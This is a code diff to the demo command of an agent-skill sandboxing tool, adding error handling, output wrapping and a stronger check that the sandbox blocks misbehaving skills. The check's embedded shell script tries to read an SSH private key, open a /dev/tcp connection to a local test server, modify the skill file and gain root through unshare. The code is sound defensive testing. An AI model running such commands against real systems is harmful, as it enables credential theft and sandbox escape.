@@ -4,17 +4,20 @@ from __future__ import annotations
 
 import argparse
 import os
+import shlex
 import shutil
+import socket
 import sys
 import tempfile
 import time
 from collections.abc import Callable, Iterable, Iterator
-from contextlib import contextmanager
+from contextlib import contextmanager, suppress
 from typing import Any, NamedTuple
 
 from skillbelt.agent.ranking import ranked
-from skillbelt.cli.output import print_json, show_progress, wants_progress
-from skillbelt.errors import SkillbeltError
+from skillbelt.cli.output import print_json, say, show_progress, wants_progress, width
+from skillbelt.environments import can_be_written
+from skillbelt.errors import RunRefused, SkillbeltError
 from skillbelt.execute import Execution
 from skillbelt.permission import Answer
 from skillbelt.run import RunResult
@@ -40,22 +43,24 @@ def archive(name, rows):
         except:
             pass
 """
+_FIRST = "The first run fetches one package and needs a network; later ones do not."
 _EXTRACT = "python3 scripts/extract.py inputs/lighthouse.pdf > out/lighthouse.txt"
+_SCRIPTED = "text-stats"  # needs no package
 _SECRET = "the key of somebody's house"
 # What a skill might try with the text of a manual in its hand.
 _FORBIDDEN = """
-try() { if "$@" 2>/dev/null; then echo "GOT IN: $1 $2"; else echo "stopped: $3"; fi; }
+try() { if $1 2>/dev/null; then echo "GOT IN: $2"; else echo "stopped: $2"; fi; }
 read_key() { cat "$PLACE" >/dev/null; }
-call_home() { timeout 2 bash -c 'echo hello >/dev/tcp/192.0.2.1/80'; }
+call_home() { timeout 2 bash -c 'echo hello >"/dev/tcp/127.0.0.1/$PORT"'; }
 plant() { echo bad >>SKILL.md; }
 become_root() { unshare -r true; }
-try read_key "" "reading $PLACE"
-try call_home "" "a connection to 192.0.2.1"
-try plant "" "a change of the skill itself"
-try become_root "" "becoming root in a namespace of its own"
+try read_key "reading $PLACE"
+try call_home "a connection to a server at 127.0.0.1"
+try plant "a change of the skill itself"
+try become_root "becoming root in a namespace of its own"
 """
 _HELD = ("files", "network", "system calls", "user", "memory", "time")
-_FINDINGS, _LINES, _WIDTH = 5, 4, 96
+_FINDINGS, _LINES, _WIDTH, _LONG = 5, 4, 96, 192
 
 
 class Stage(NamedTuple):
@@ -79,12 +84,13 @@ def run(args: argparse.Namespace) -> int:
             if not args.json:
                 _show(number, stage, args)
     seconds = time.monotonic() - begun
+    faults = [n for n, stage in enumerate(shown, 1) if not stage.facts.get("ok", True)]
     if args.json:
         stages = [{"title": one.title, **one.facts} for one in shown]
         print_json({"stages": stages, "seconds": round(seconds, 1), "next": list(_next())})
     else:
-        _end(seconds)
-    return 0 if all(stage.facts.get("ok", True) for stage in shown) else 1
+        _end(seconds, faults)
+    return 1 if faults else 0
 
 
 # What it works on
@@ -126,12 +132,16 @@ def _write(path: str, text: str) -> None:
 @contextmanager
 def _belt(project: str, args: argparse.Namespace) -> Iterator[Runtime]:
     """A runtime for the project alone. What is built or installed is kept where it always is."""
-    overrides = {
-        "state_dir": os.path.join(os.path.dirname(project), "state"),
+    folder = os.path.dirname(project)
+    overrides: dict[str, object] = {
+        "state_dir": os.path.join(folder, "state"),
         "user_roots": False,
         "remote_roots": False,
     }
     settings = load_settings(project, overrides=overrides)
+    if not can_be_written(settings.cache_dir):
+        say(f"skillbelt: {settings.cache_dir} can not be written to; nothing is kept", args)
+        settings = settings._replace(cache_dir=os.path.join(folder, "cache"))
     progress = show_progress if wants_progress(args) else None
     with Runtime(settings=settings, progress=progress, ask=_yes) as belt:
         yield belt
@@ -203,20 +213,26 @@ def _finding(one: dict[str, Any]) -> str:
 def _extract(belt: Runtime, project: str) -> Iterator[Stage]:
     skill, stage = _matched(belt, _PDF)
     yield stage
-    done = belt.run_sync(
-        skill.name,
-        _EXTRACT,
-        inputs=[f"host://{project}/lighthouse.pdf"],
-        outputs=["out/*.txt"],
-        save_as_artifacts=True,
-    )
+    title = f"Run: {skill.name} in the native sandbox, with the package it declares (pypdf)"
+    try:
+        done = belt.run_sync(
+            skill.name,
+            _EXTRACT,
+            inputs=[f"host://{project}/lighthouse.pdf"],
+            outputs=["out/*.txt"],
+            save_as_artifacts=True,
+        )
+    except SkillbeltError as error:
+        why = [_FIRST] if isinstance(error, RunRefused) else []
+        yield Stage(title, [str(error), *why], {"ok": False, "error": str(error)})
+        return
     text = done.output_files[0].content if done.output_files else done.stderr
     files = [
         f"out: {one.name} ({one.mime_type}, {one.size_bytes} bytes)" for one in done.output_files
     ]
     kept = [f"kept as the artifact {one.name}@{one.version}" for one in done.artifact_files]
     yield Stage(
-        f"Run: {skill.name} in the native sandbox, with the package it declares (pypdf)",
+        title,
         [*text.splitlines()[:_LINES], *files, *kept, *_held(done)],
         {"ok": done.exit_code == 0 and bool(files), "skill": skill.name, **done.document()},
     )
@@ -238,15 +254,53 @@ def _matched(belt: Runtime, question: str) -> tuple[Skill, Stage]:
 
 
 def _forbid(belt: Runtime, project: str) -> Stage:
-    key = os.path.join(os.path.dirname(project), "home", ".ssh", "id_ed25519")
-    done = belt.run_sync("pdf-text", _FORBIDDEN, env={"PLACE": key}, timeout_seconds=20)
-    said = done.stdout.replace(os.path.dirname(project), "~").splitlines()
+    folder = os.path.dirname(project)
+    key = os.path.join(folder, "home", ".ssh", "id_ed25519")
+    with _server() as (port, visits):
+        outside = _read(key) == _SECRET and _calls(port)
+        before = visits()
+        env = {"PLACE": key, "PORT": str(port)}
+        done = belt.run_sync(_SCRIPTED, _FORBIDDEN, env=env, timeout_seconds=20)
+        inside = visits() - before
+    said = done.stdout.replace(folder, "~").splitlines()
     stopped = len(said) == 4 and all(line.startswith("stopped") for line in said)
+    control = ["outside the sandbox that file can be read, and that server answers"]
     return Stage(
-        "Forbid: a script of the skill tries what it may not",
-        said or [one_line(done.stderr)],
-        {"ok": stopped, "attempts": said, "sandbox": done.sandbox},
-    )
+        "Forbid: a script of a skill tries what it may not",
+        [*(said or [one_line(done.stderr)]), *(control if outside else ())],
+        {"ok": stopped and inside == 0, "attempts": said, "works_outside": outside,
+         "sandbox": done.sandbox},
+    )  # fmt: skip
+
+
+@contextmanager
+def _server() -> Iterator[tuple[int, Callable[[], int]]]:
+    """A server on this machine for as long as it lasts: its port, and how often somebody came."""
+    came = 0
+
+    def visits() -> int:
+        nonlocal came
+        with suppress(BlockingIOError):
+            while True:
+                server.accept()[0].close()
+                came += 1
+        return came
+
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.setblocking(False)
+        yield server.getsockname()[1], visits
+
+
+def _calls(port: int) -> bool:
+    """Whether the server answers whoever is in no sandbox."""
+    with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=2):
+        return True
+    return False
+
+
+def _read(path: str) -> str:
+    with open(path, encoding="utf-8") as file:
+        return file.read()
 
 
 def _held(done: Execution | RunResult) -> Iterable[str]:
@@ -265,21 +319,35 @@ def _show(number: int, stage: Stage, args: argparse.Namespace) -> None:
     bold: Callable[[str], str] = (
         (lambda text: f"\x1b[1m{text}\x1b[0m") if sys.stdout.isatty() else str
     )
-    print(bold(f"{number}. {stage.title}"))
+    for line in _wrapped(f"{number}. {stage.title}", ""):
+        print(bold(line))
     for line in stage.lines:
-        print(f"   {shorten(one_line(line), _WIDTH)}" if line.strip() else "")
+        print("\n".join(_wrapped(line, "   ")))
     print(flush=True)
 
 
-def _end(seconds: float) -> None:
-    print(f"Done in {seconds:.0f} s. Try next, in a project of yours:")
+def _wrapped(line: str, margin: str) -> list[str]:
+    """The line as the terminal has room for it; its own margin is kept."""
+    from textwrap import wrap
+
+    margin += line[: len(line) - len(line.lstrip())]
+    room = min(_WIDTH, max(width(sys.stdout) - 1, 20)) if sys.stdout.isatty() else _WIDTH
+    text = shorten(one_line(line), _LONG)
+    return wrap(text, room, initial_indent=margin, subsequent_indent=f"{margin}  ") or [""]
+
+
+def _end(seconds: float, faults: list[int]) -> None:
+    said = [f"Stage {number} did not do what it should." for number in faults]
+    for line in [*said, f"Done in {seconds:.0f} s. Try next, in a project of yours:"]:
+        print("\n".join(_wrapped(line, "")))
     for command in _next():
         print(f"   {command}")
 
 
 def _next() -> tuple[str, ...]:
+    """What works in any folder, with the skills that the demo has shown."""
     return (
-        "skillbelt list",
-        'skillbelt ask "What is wrong in this log?" --file app.log',
+        f"mkdir -p .agents && cp -r {shlex.quote(examples())} .agents/skills && skillbelt list",
+        'skillbelt ask "How long does it take to read this text?" --file README.md',
         "skillbelt serve mcp",
     )
